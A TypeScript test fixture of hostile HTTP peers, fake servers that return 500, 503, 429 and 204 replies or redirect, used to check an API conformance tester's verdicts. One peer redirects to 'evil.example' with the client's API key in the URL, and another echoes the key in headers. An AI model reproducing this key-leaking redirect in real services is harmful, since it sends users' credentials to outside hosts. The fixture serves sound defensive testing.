import { createServer } from 'node:http';
import type { Reply } from '../../src/reference/call.ts';
import { onReply } from '../../src/reference/changes.ts';
import { startReference } from '../../src/reference/server.ts';
import { type HostilePeer, hostileKey, type Running } from './peer.ts';
import { changedPeer, httpPeer, listening } from './servers.ts';

const error = (status: number) => JSON.stringify({ code: 'broken', message: 'Broken.', status });

/** A service that gives the same status to everything. */
const always = (status: number, headers: Readonly<Record<string, string>> = {}) =>
  httpPeer((_, response) => {
    response.writeHead(status, {
      'Content-Type': 'application/json',
      'X-RateLimit-Limit': '60',
      'X-RateLimit-Remaining': '59',
      'X-RateLimit-Reset': String(Math.ceil(Date.now() / 1000) + 1),
      ...headers,
    });
    response.end(error(status));
  });

/** A peer that redirects some replies to another server, which must never be contacted. */
const redirecting =
  (redirects: (reply: Reply, operation: string | undefined) => boolean) =>
  async (): Promise<Running> => {
    let contacts = 0;
    const target = await listening(
      createServer((_, response) => {
        contacts += 1;
        response.end('[]');
      }),
    );
    const change = onReply((reply, call) => {
      if (!redirects(reply, call.operation)) return reply;
      return { status: 307, headers: { ...reply.headers, Location: `${target.baseUrl}/pets` } };
    });
    const peer = await startReference({ apiKey: hostileKey, change });
    return {
      baseUrl: peer.baseUrl,
      close: async () => {
        await Promise.all([peer.close(), target.close()]);
      },
      complaint: () => (contacts > 0 ? `the redirect was followed ${contacts} times` : undefined),
    };
  };

/** Peers whose answers are HTTP, and of no use. */
export const answerPeers: readonly HostilePeer[] = [
  {
    id: 'answers.500-always',
    title: 'answers 500 to everything',
    start: always(500),
    expected: {
      // Each creation may have left an animal, and so not all of those that must be refused are sent.
      verdict: 'non-conformant',
      fails: ['auth.missing-key', 'create.created'],
    },
  },
  {
    id: 'answers.503-with-a-date',
    title: 'answers 503 to everything, and says to come back in an hour',
    start: always(503, { 'Retry-After': '3600' }),
    expected: { verdict: 'non-conformant', fails: ['auth.missing-key'] },
  },
  {
    id: 'answers.401-always',
    title: 'refuses the configured key as well',
    start: always(401),
    expected: {
      verdict: 'incomplete',
      says: /answered 401 to the configured key/,
      mostRequests: 1,
    },
  },
  {
    id: 'answers.403-always',
    title: 'answers 403 to the configured key as well, whatever is asked',
    start: always(403),
    expected: {
      verdict: 'incomplete',
      says: /answered 403 to the configured key/,
      mostRequests: 3,
    },
  },
  {
    id: 'answers.429-for-a-day',
    title: 'answers 429 to everything, and says to come back in a day',
    start: always(429, { 'Retry-After': '86400' }),
    expected: { verdict: 'incomplete', says: /asks to wait 86400 s/, mostRequests: 2 },
  },
  {
    id: 'answers.429-always',
    title: 'answers 429 to everything, and says to try again at once',
    start: always(429, { 'Retry-After': '0' }),
    expected: { verdict: 'incomplete', says: /may get the key banned/, mostRequests: 4 },
  },
  {
    id: 'answers.empty',
    title: 'answers 204 to everything',
    start: always(204),
    expected: { verdict: 'non-conformant', fails: ['auth.missing-key', 'list.returns-pets'] },
  },
  {
    id: 'answers.redirects-to-another-host',
    title: 'redirects everything to another server',
    start: redirecting(() => true),
    expected: { verdict: 'incomplete', says: /redirects \(307\) to /, mostRequests: 1 },
  },
  {
    id: 'answers.redirects-one-operation',
    title: 'redirects getPet to another server',
    start: redirecting((_, operation) => operation === 'getPet'),
    expected: { verdict: 'non-conformant', fails: ['get.found', 'get.not-found'] },
  },
  {
    id: 'answers.redirects-to-itself',
    title: 'redirects everything to the same address',
    start: httpPeer((request, response) => {
      response.writeHead(308, { Location: request.url ?? '/' });
      response.end();
    }),
    expected: { verdict: 'incomplete', says: /redirects \(308\) to \/v1\/pets/, mostRequests: 1 },
  },
  {
    id: 'answers.redirects-with-the-key',
    title: 'redirects everything, with the key in the address',
    start: httpPeer((request, response) => {
      const key = request.headers.authorization?.replace('Bearer ', '') ?? '';
      response.writeHead(302, { Location: `https://evil.example/?key=${key}`, 'X-Key': key });
      response.end(key);
    }),
    expected: {
      verdict: 'incomplete',
      says: /redirects \(302\) to .*\[API key\]/,
      mostRequests: 1,
    },
  },
  {
    id: 'answers.echo-the-key',
    title: 'conforms, and gives the key back in headers, phrases and bodies',
    start: changedPeer(({ finish, show }) => ({
      show: (animal, call) => ({ ...Object(show(animal, call)), note: call.headers.authorization }),
      finish: (reply, call) => {
        const { headers, ...rest } = finish(reply, call);
        const key = call.headers.authorization ?? '';
        return { ...rest, headers: { ...headers, 'X-Echo': key, [`X-${key.length}`]: key } };
      },
    })),
    expected: { verdict: 'conformant' },
  },
];
